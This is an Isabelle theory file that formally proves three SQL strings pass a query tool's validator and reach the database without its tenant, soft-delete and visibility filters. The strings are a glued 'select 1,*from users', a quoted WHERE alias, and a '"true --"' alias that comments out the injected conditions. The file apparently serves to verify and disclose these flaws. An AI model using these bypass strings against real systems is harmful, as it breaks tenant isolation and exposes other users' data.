(* ===== verification/SQL_Bypass.thy ===== *)
theory SQL_Bypass
  imports Query_Properties
begin

text \<open>
  Statements that pass the guard of the database-query tool and then run without its filters,
  worked out on the model: the tokens, the checks, and the text handed to the database.
\<close>

subsection \<open>The checks of the tool\<close>

lemma query_config_flags:
  "cf_check_injection_risk (query_config U t scopes)"
  "validate_statement U (query_config U t scopes) p = validate_statement U (with_security_defaults U t default_config) p"
  "check_input sql (query_config U t scopes) = check_input sql (with_security_defaults U t default_config)"
  "cf_check_input (query_config U t scopes)" "cf_check_single_statement (query_config U t scopes)"
  "cf_check_select_only (query_config U t scopes)"
  unfolding query_config_def with_search_scopes_def with_injection_risk_check_def with_chunk_enabled_filter_def
    with_hidden_kb_filter_def with_soft_delete_filter_def
  by (simp_all add: security_defaults_simps validate_statement_def check_input_def function_errors_def [abs_def] Let_def)

lemma query_accepted:
  assumes "validate_sql U sql (with_security_defaults U t default_config) = []"
    and "pr_where_clause (parse_sql U sql) = []"
  shows "validate_sql U sql (query_config U t scopes) = []"
  using assms by (auto simp: validate_sql_def Let_def query_config_flags security_defaults_simps check_injection_risks_def
      split: if_splits)

definition glued_query :: str where
  "glued_query = lit ''select 1,*from users''"

lemmas scan_eval = scan_top_level_tokens_def skip_line_comment_def scan_at_def Let_def is_space_def lit_def

lemma glued_query_tokens:
  "scan_top_level_tokens b glued_query = [(0, lit ''select''), (7, lit ''1,*from''), (15, lit ''users'')]"
  by (simp add: glued_query_def scan_eval)

lemmas upper_eval = upper_str_def upper_char_def
lemmas lower_eval = lower_str_def lower_char_def

lemma glued_query_split: "split_top_level_statements glued_query (scan_top_level_tokens False glued_query) = [glued_query]"
  unfolding glued_query_tokens split_top_level_statements_def by (simp add: glued_query_def lit_def strip_def is_space_def)

lemma glued_query_accepted:
  assumes "no_new_dots U"
  shows "validate_sql U glued_query (with_security_defaults U t default_config) = []"
  unfolding accepts_iff [OF assms]
proof (intro conjI exI)
  show "split_top_level_statements glued_query (scan_top_level_tokens False glued_query) = [glued_query]"
    by (rule glued_query_split)
  show "read_only_query U glued_query"
    by (simp add: read_only_query_def glued_query_tokens token_words_def upper_eval lit_def)
  show "from_allowed U glued_query"
    by (simp add: from_allowed_def from_clause_unfold glued_query_tokens upper_eval lit_def from_start_def)
  show "calls_safe U glued_query"
    by (simp add: calls_safe_def glued_query_tokens called_def lit_def)
  show "no_system_names U glued_query"
    by (simp add: no_system_names_def glued_query_def lit_def ident_start_def ident_char_def lower_eval SYSTEM_COLUMNS_def)
qed (simp_all add: glued_query_def lit_def)

lemma parse_fields:
  assumes "split_top_level_statements sql (scan_top_level_tokens False sql) = [stmt]"
    and "token_words U (scan_top_level_tokens False stmt) \<noteq> []"
  shows "table_alias_map U sql = fs_aliases (extract_from_clause U stmt)"
    and "pr_where_clause (parse_sql U sql) = extract_where_clause U stmt (scan_top_level_tokens False stmt)"
  using assms by (auto simp: table_alias_map_def parse_sql_def Let_def split: list.splits)

lemma secure_sql_no_alias: "secure_sql U cfg [] sql = sql"
  by (simp add: secure_sql_def inject_tenant_conditions_def inject_soft_delete_conditions_def
      inject_hidden_kb_filter_def inject_chunk_enabled_filter_def inject_search_scope_conditions_def and_all_def
      alias_of_def structured_conditions_def plain_conditions_def Let_def)

lemma secured_query:
  assumes "validate_sql U sql (query_config U t scopes) = []"
  shows "validate_and_secure_sql U sql (query_config U t scopes) =
    (secure_sql U (query_config U t scopes) (table_alias_map U sql) sql, [])"
  using assms
  by (simp add: validate_and_secure_sql_def query_config_def with_search_scopes_def with_injection_risk_check_def
      with_chunk_enabled_filter_def with_hidden_kb_filter_def with_soft_delete_filter_def)

lemma glued_from_unfiltered:
  assumes "no_new_dots U"
  shows "validate_and_secure_sql U glued_query (query_config U tenant_id scopes) = (glued_query, [])"
proof -
  have words: "token_words U (scan_top_level_tokens False glued_query) \<noteq> []"
    by (simp add: glued_query_tokens token_words_def)
  have aliases: "table_alias_map U glued_query = []"
    unfolding parse_fields(1) [OF glued_query_split words]
    by (simp add: from_clause_unfold glued_query_tokens upper_eval lit_def from_start_def)
  have "pr_where_clause (parse_sql U glued_query) = []"
    unfolding parse_fields(2) [OF glued_query_split words]
    by (simp add: extract_where_clause_def glued_query_tokens upper_eval lit_def)
  then have "validate_sql U glued_query (query_config U tenant_id scopes) = []"
    using glued_query_accepted [OF assms] by (rule query_accepted [rotated])
  then show ?thesis by (simp add: secured_query aliases secure_sql_no_alias)
qed

subsection \<open>WHERE in a quoted name\<close>

definition quoted_where_query :: str where
  "quoted_where_query = lit ''select id as '' @ [34] @ lit ''WHERE'' @ [34] @ lit '' from chunks --''"

definition one_base :: "search_scope list" where
  "one_base = [\<lparr>sc_knowledge_base_id = lit ''kb'', sc_knowledge_ids = [], sc_tag_ids = []\<rparr>]"

text \<open>The filters of a query on chunks alone.\<close>

definition chunk_filters :: "str \<Rightarrow> str list" where
  "chunk_filters a = [a @ lit ''.tenant_id = 7'', a @ lit ''.deleted_at IS NULL'', a @ lit ''.is_enabled = true'',
     a @ lit ''.knowledge_base_id = '' @ [39] @ lit ''kb'' @ [39]]"

lemma secure_chunk_query:
  assumes "a \<noteq> []"
  shows "secure_sql U (query_config U 7 one_base) [(lit ''chunks'', a)] sql =
    fold (\<lambda>f s. inject_and_conditions U s f) (chunk_filters a) sql"
  using assms
  by (simp add: secure_sql_def inject_tenant_conditions_def inject_soft_delete_conditions_def
      inject_hidden_kb_filter_def inject_chunk_enabled_filter_def inject_search_scope_conditions_def and_all_def
      alias_of_def structured_conditions_def Let_def query_config_def with_search_scopes_def with_injection_risk_check_def
      with_chunk_enabled_filter_def with_hidden_kb_filter_def with_soft_delete_filter_def one_base_def
      with_security_defaults_def with_tenant_isolation_def with_allowed_tables_def DEFAULT_TENANT_TABLES_def
      DEFAULT_SOFT_DELETE_TABLES_def tenant_condition_def chunk_filters_def build_document_scope_condition_def
      build_scope_clause_def quote_sql_string_def int_str_def decimal_digits.simps lit_def default_config_def)

lemma injectable_chunk_filters: "\<forall>f \<in> set (chunk_filters (lit ''chunks'')). injectable U f"
  by (simp add: chunk_filters_def injectable_def lit_def strip_def is_space_def find_tail_def TAIL_CLAUSES_def
      word_at_def edge_iff nonword_def word_char_def ident_char_def ident_start_def icase_eq_def upper_char_def head_opt_def)

lemmas search_eval = find_tail_def TAIL_CLAUSES_def word_at_def edge_iff nonword_def word_char_def ident_char_def
  ident_start_def icase_eq_def upper_char_def head_opt_def lit_def

lemma quoted_where_tokens:
  "scan_top_level_tokens b quoted_where_query = [(0, lit ''select''), (7, lit ''id''), (10, lit ''as''),
     (13, [34] @ lit ''WHERE'' @ [34]), (21, lit ''from''), (26, lit ''chunks'')]"
  by (simp add: quoted_where_query_def scan_eval)

lemma quoted_where_split:
  "split_top_level_statements quoted_where_query (scan_top_level_tokens False quoted_where_query) = [quoted_where_query]"
  unfolding quoted_where_tokens split_top_level_statements_def
  by (simp add: quoted_where_query_def lit_def strip_def is_space_def)

lemma quoted_where_from:
  "extract_from_clause U quoted_where_query = from_start\<lparr>fs_aliases := [(lit ''chunks'', lit ''chunks'')], fs_tables := [lit ''chunks'']\<rparr>"
  by (simp add: from_clause_unfold quoted_where_tokens upper_eval lower_eval lit_def from_start_def FROM_END_KEYWORDS_def
      JOIN_MODIFIERS_def finalize_spec_def Let_def base_identifier_def unquote_identifier_def setdefault_def)

lemma quoted_where_accepted:
  assumes "no_new_dots U"
  shows "validate_sql U quoted_where_query (with_security_defaults U t default_config) = []"
  unfolding accepts_iff [OF assms]
proof (intro conjI exI)
  show "split_top_level_statements quoted_where_query (scan_top_level_tokens False quoted_where_query) = [quoted_where_query]"
    by (rule quoted_where_split)
  show "read_only_query U quoted_where_query"
    by (simp add: read_only_query_def quoted_where_tokens token_words_def upper_eval lit_def)
  show "from_allowed U quoted_where_query"
    by (simp add: from_allowed_def quoted_where_from from_start_def DEFAULT_TABLES_def lit_def)
  show "calls_safe U quoted_where_query"
    by (simp add: calls_safe_def quoted_where_tokens called_def lit_def)
  show "no_system_names U quoted_where_query"
    by (simp add: no_system_names_def quoted_where_query_def lit_def ident_start_def ident_char_def lower_eval SYSTEM_COLUMNS_def)
qed (simp_all add: quoted_where_query_def lit_def)

lemma quoted_where_inject:
  "fold (\<lambda>f s. inject_and_conditions U s f) (chunk_filters (lit ''chunks'')) quoted_where_query =
     lit ''select id as '' @ [34] @ lit ''WHERE '' @ wrap (chunk_filters (lit ''chunks'')) ([34] @ lit '' from chunks --'')"
proof -
  have rest: "drop (14 + 5) quoted_where_query = [34] @ lit '' from chunks --''" by (simp add: quoted_where_query_def lit_def)
  have w: "find_where U quoted_where_query = Some 14"
    by (simp add: quoted_where_query_def find_where_def search_eval)
  have s: "strip ([34] @ lit '' from chunks --'') = [34] @ lit '' from chunks --''" by (simp add: lit_def strip_def is_space_def)
  have pre: "take 14 quoted_where_query = lit ''select id as '' @ [34]" by (simp add: quoted_where_query_def lit_def)
  have no_tail: "find_tail U ([34] @ lit '' from chunks --'') = None" by (simp add: search_eval)
  show ?thesis
    using fold_inject [OF w, of "chunk_filters (lit ''chunks'')"] injectable_chunk_filters [of U]
    by (simp only: rest s pre no_tail append_assoc) (simp add: chunk_filters_def)
qed

definition quoted_where_secured :: str where
  "quoted_where_secured = lit ''select id as '' @ [34] @ lit ''WHERE '' @ wrap (chunk_filters (lit ''chunks'')) ([34] @ lit '' from chunks --'')"

lemma quoted_where_unfiltered:
  assumes "no_new_dots U"
  shows "validate_and_secure_sql U quoted_where_query (query_config U 7 one_base) = (quoted_where_secured, []) \<and>
    (\<exists>name. map snd (scan_top_level_tokens True quoted_where_secured) =
      [lit ''select'', lit ''id'', lit ''as'', [34] @ name @ [34], lit ''from'', lit ''chunks''])"
proof
  have words: "token_words U (scan_top_level_tokens False quoted_where_query) \<noteq> []"
    by (simp add: quoted_where_tokens token_words_def)
  have aliases: "table_alias_map U quoted_where_query = [(lit ''chunks'', lit ''chunks'')]"
    unfolding parse_fields(1) [OF quoted_where_split words] by (simp add: quoted_where_from from_start_def)
  have "pr_where_clause (parse_sql U quoted_where_query) = []"
    unfolding parse_fields(2) [OF quoted_where_split words]
    by (simp add: extract_where_clause_def quoted_where_tokens upper_eval lit_def)
  then have v: "validate_sql U quoted_where_query (query_config U 7 one_base) = []"
    using quoted_where_accepted [OF assms] by (rule query_accepted [rotated])
  have "secure_sql U (query_config U 7 one_base) [(lit ''chunks'', lit ''chunks'')] quoted_where_query = quoted_where_secured"
    using secure_chunk_query [of "lit ''chunks''"] quoted_where_inject by (simp add: quoted_where_secured_def)
  then show "validate_and_secure_sql U quoted_where_query (query_config U 7 one_base) = (quoted_where_secured, [])"
    unfolding secured_query [OF v] aliases by (rule arg_cong)
  show "\<exists>name. map snd (scan_top_level_tokens True quoted_where_secured) =
      [lit ''select'', lit ''id'', lit ''as'', [34] @ name @ [34], lit ''from'', lit ''chunks'']"
    by (simp add: quoted_where_secured_def chunk_filters_def wrap_def scan_eval)
qed

subsection \<open>An alias that is a comment\<close>

definition comment_alias :: str where
  "comment_alias = lit ''true --''"

definition comment_alias_query :: str where
  "comment_alias_query = lit ''select * from chunks '' @ [34] @ comment_alias @ [34]"

lemma comment_alias_tokens:
  "scan_top_level_tokens b comment_alias_query = [(0, lit ''select''), (7, lit ''*''), (9, lit ''from''), (14, lit ''chunks''),
     (21, [34] @ comment_alias @ [34])]"
  by (simp add: comment_alias_query_def comment_alias_def scan_eval)

lemma comment_alias_split:
  "split_top_level_statements comment_alias_query (scan_top_level_tokens False comment_alias_query) = [comment_alias_query]"
  unfolding comment_alias_tokens split_top_level_statements_def
  by (simp add: comment_alias_query_def comment_alias_def lit_def strip_def is_space_def)

lemma comment_alias_from:
  "extract_from_clause U comment_alias_query =
     from_start\<lparr>fs_aliases := [(lit ''chunks'', comment_alias)], fs_tables := [lit ''chunks'']\<rparr>"
  by (simp add: from_clause_unfold comment_alias_tokens upper_eval lower_eval lit_def from_start_def FROM_END_KEYWORDS_def
      JOIN_MODIFIERS_def finalize_spec_def Let_def base_identifier_def unquote_identifier_def setdefault_def comment_alias_def)

lemma comment_alias_accepted:
  assumes "no_new_dots U"
  shows "validate_sql U comment_alias_query (with_security_defaults U t default_config) = []"
  unfolding accepts_iff [OF assms]
proof (intro conjI exI)
  show "split_top_level_statements comment_alias_query (scan_top_level_tokens False comment_alias_query) = [comment_alias_query]"
    by (rule comment_alias_split)
  show "read_only_query U comment_alias_query"
    by (simp add: read_only_query_def comment_alias_tokens token_words_def upper_eval lit_def comment_alias_def)
  show "from_allowed U comment_alias_query"
    by (simp add: from_allowed_def comment_alias_from from_start_def DEFAULT_TABLES_def lit_def comment_alias_def)
  show "calls_safe U comment_alias_query"
    by (simp add: calls_safe_def comment_alias_tokens called_def lit_def comment_alias_def)
  show "no_system_names U comment_alias_query"
    by (simp add: no_system_names_def comment_alias_query_def comment_alias_def lit_def ident_start_def ident_char_def
        lower_eval SYSTEM_COLUMNS_def)
qed (simp_all add: comment_alias_query_def comment_alias_def lit_def)

lemma injectable_alias_filters: "\<forall>f \<in> set (chunk_filters comment_alias). injectable U f"
  by (simp add: chunk_filters_def comment_alias_def injectable_def strip_def is_space_def search_eval)

text \<open>The first filter starts the WHERE clause, the others join it.\<close>

lemma comment_alias_inject:
  "fold (\<lambda>f s. inject_and_conditions U s f) (chunk_filters comment_alias) comment_alias_query =
     comment_alias_query @ lit '' WHERE '' @ wrap (tl (chunk_filters comment_alias)) (hd (chunk_filters comment_alias))"
proof -
  let ?f = "hd (chunk_filters comment_alias)" and ?fs = "tl (chunk_filters comment_alias)"
  let ?sql = "comment_alias_query @ lit '' WHERE '' @ ?f"
  have first: "inject_and_conditions U comment_alias_query ?f = ?sql"
    by (simp add: inject_and_conditions_def chunk_filters_def comment_alias_def comment_alias_query_def strip_def is_space_def
        find_where_def search_eval)
  have len: "length comment_alias_query = 30" by (simp add: comment_alias_query_def comment_alias_def)
  have w: "find_where U ?sql = Some 31"
    by (simp add: chunk_filters_def comment_alias_query_def comment_alias_def find_where_def search_eval)
  have rest: "drop (31 + 5) ?sql = 32 # ?f" and pre: "take 31 ?sql = comment_alias_query @ [32]"
    by (simp_all add: len lit_def)
  have s: "strip (32 # ?f) = ?f" by (simp add: chunk_filters_def comment_alias_def lit_def strip_def is_space_def)
  have no_tail: "find_tail U ?f = None" "find_tail U (32 # ?f) = None"
    by (simp_all add: chunk_filters_def comment_alias_def search_eval)
  have "fold (\<lambda>f s. inject_and_conditions U s f) ?fs ?sql = comment_alias_query @ [32] @ lit ''WHERE '' @ wrap ?fs ?f"
    using fold_inject [OF w, of ?fs] injectable_alias_filters [of U]
    by (simp only: rest s pre no_tail append_assoc) (simp add: chunk_filters_def)
  moreover have "fold (\<lambda>f s. inject_and_conditions U s f) (chunk_filters comment_alias) comment_alias_query =
      fold (\<lambda>f s. inject_and_conditions U s f) ?fs ?sql"
    unfolding first [symmetric] by (simp add: chunk_filters_def)
  moreover have "lit '' WHERE '' = [32] @ lit ''WHERE ''" by (simp add: lit_def)
  ultimately show ?thesis by (simp only: append_assoc)
qed

definition comment_alias_secured :: str where
  "comment_alias_secured = comment_alias_query @ lit '' WHERE '' @
     wrap (tl (chunk_filters comment_alias)) (hd (chunk_filters comment_alias))"

lemma comment_alias_unfiltered:
  assumes "no_new_dots U"
  shows "validate_and_secure_sql U comment_alias_query (query_config U 7 one_base) = (comment_alias_secured, []) \<and>
    map snd (scan_top_level_tokens True comment_alias_secured) =
      [lit ''select'', lit ''*'', lit ''from'', lit ''chunks'', [34] @ comment_alias @ [34], lit ''WHERE'', lit ''true'']"
proof
  have words: "token_words U (scan_top_level_tokens False comment_alias_query) \<noteq> []"
    by (simp add: comment_alias_tokens token_words_def)
  have aliases: "table_alias_map U comment_alias_query = [(lit ''chunks'', comment_alias)]"
    unfolding parse_fields(1) [OF comment_alias_split words] by (simp add: comment_alias_from from_start_def)
  have "pr_where_clause (parse_sql U comment_alias_query) = []"
    unfolding parse_fields(2) [OF comment_alias_split words]
    by (simp add: extract_where_clause_def comment_alias_tokens upper_eval lit_def comment_alias_def)
  then have v: "validate_sql U comment_alias_query (query_config U 7 one_base) = []"
    using comment_alias_accepted [OF assms] by (rule query_accepted [rotated])
  have "comment_alias \<noteq> []" by (simp add: comment_alias_def)
  then have "secure_sql U (query_config U 7 one_base) [(lit ''chunks'', comment_alias)] comment_alias_query = comment_alias_secured"
    using secure_chunk_query [of comment_alias] comment_alias_inject by (simp add: comment_alias_secured_def)
  then show "validate_and_secure_sql U comment_alias_query (query_config U 7 one_base) = (comment_alias_secured, [])"
    unfolding secured_query [OF v] aliases by (rule arg_cong)
  show "map snd (scan_top_level_tokens True comment_alias_secured) =
      [lit ''select'', lit ''*'', lit ''from'', lit ''chunks'', [34] @ comment_alias @ [34], lit ''WHERE'', lit ''true'']"
    by (simp add: comment_alias_secured_def comment_alias_query_def comment_alias_def chunk_filters_def wrap_def scan_eval)
qed

lemma no_new_dots_ascii: "no_new_dots ascii_only"
  by (simp add: no_new_dots_def ascii_only_def)

end
